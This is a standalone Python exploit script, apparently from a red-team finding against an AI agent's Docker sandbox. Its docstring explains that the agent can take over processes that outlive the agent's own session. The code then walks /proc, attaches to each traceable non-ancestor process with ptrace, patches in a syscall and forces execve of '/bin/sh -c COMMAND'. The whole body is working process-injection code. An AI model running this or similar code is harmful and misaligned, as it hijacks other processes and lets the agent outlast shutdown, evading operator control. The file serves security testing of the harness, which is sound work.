"""Attack script (issue 30, finding 1): take over a process that will outlive the agent, by `ptrace`.

    python3 ptrace_inject.py COMMAND

Attaches to every process it may trace that is neither itself nor one of its ancestors (in the Docker
sandbox on the old code: PID 1 and the container's main `sleep`, both the agent's uid, which `end_agent`
spared), and makes each `execve("/bin/sh", ["/bin/sh", "-c", COMMAND])`: the pid, and whatever spares it,
stay the same. Prints `injected PID` per success, `refused PID errno` per refusal. x86-64 Linux, stdlib
only (ctypes), so it runs with a bare image's python3, as the agent's own shell tool would run it.
"""

from __future__ import annotations

import ctypes
import os
import sys

PEEKTEXT, POKETEXT, POKEDATA, GETREGS, SETREGS, ATTACH, DETACH = 1, 4, 5, 12, 13, 16, 17
WALL = 0x40000000
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]


class Regs(ctypes.Structure):
    _fields_ = [
        (name, ctypes.c_ulonglong)
        for name in (
            "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
            "fs_base gs_base ds es fs gs"
        ).split()
    ]


def ptrace(request: int, pid: int, addr: int = 0, data: int = 0) -> int:
    ctypes.set_errno(0)
    value = libc.ptrace(request, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
    if value == -1 and ctypes.get_errno() != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return value


def poke_bytes(pid: int, addr: int, data: bytes) -> None:
    data += b"\0" * (-len(data) % 8)
    for offset in range(0, len(data), 8):
        ptrace(POKEDATA, pid, addr + offset, int.from_bytes(data[offset : offset + 8], "little"))


def inject(pid: int, command: str) -> None:
    ptrace(ATTACH, pid)
    os.waitpid(pid, WALL)
    regs = Regs()
    ptrace(GETREGS, pid, 0, ctypes.addressof(regs))
    base = (regs.rsp - 8192) & ~0xF  # below the stack pointer: scratch space nobody uses
    strings, pointers, cursor = b"", [], base
    for arg in (b"/bin/sh", b"-c", command.encode()):
        pointers.append(cursor + len(strings))
        strings += arg + b"\0"
    strings += b"\0" * (-len(strings) % 8)
    argv = base + len(strings)
    poke_bytes(pid, base, strings + b"".join(p.to_bytes(8, "little") for p in [*pointers, 0]))
    word = ptrace(PEEKTEXT, pid, regs.rip) & 0xFFFFFFFFFFFFFFFF
    ptrace(POKETEXT, pid, regs.rip, (word & ~0xFFFF) | 0x050F)  # `syscall` at the next instruction
    regs.rax, regs.rdi, regs.rsi, regs.rdx = 59, pointers[0], argv, 0  # execve(path, argv, NULL)
    regs.orig_rax = 0xFFFFFFFFFFFFFFFF  # not in a syscall: no restart logic moves rip
    ptrace(SETREGS, pid, 0, ctypes.addressof(regs))
    ptrace(DETACH, pid)


def ancestors() -> set[int]:
    found, pid = set(), os.getpid()
    while pid > 0 and pid not in found:
        found.add(pid)
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return found


def main() -> None:
    command = sys.argv[1]
    mine = ancestors()
    for name in sorted(os.listdir("/proc"), key=lambda n: (len(n), n)):
        if not name.isdigit() or int(name) in mine:
            continue
        try:
            inject(int(name), command)
            print("injected", name, flush=True)
        except OSError as exc:
            print("refused", name, exc.errno, flush=True)


if __name__ == "__main__":
    main()
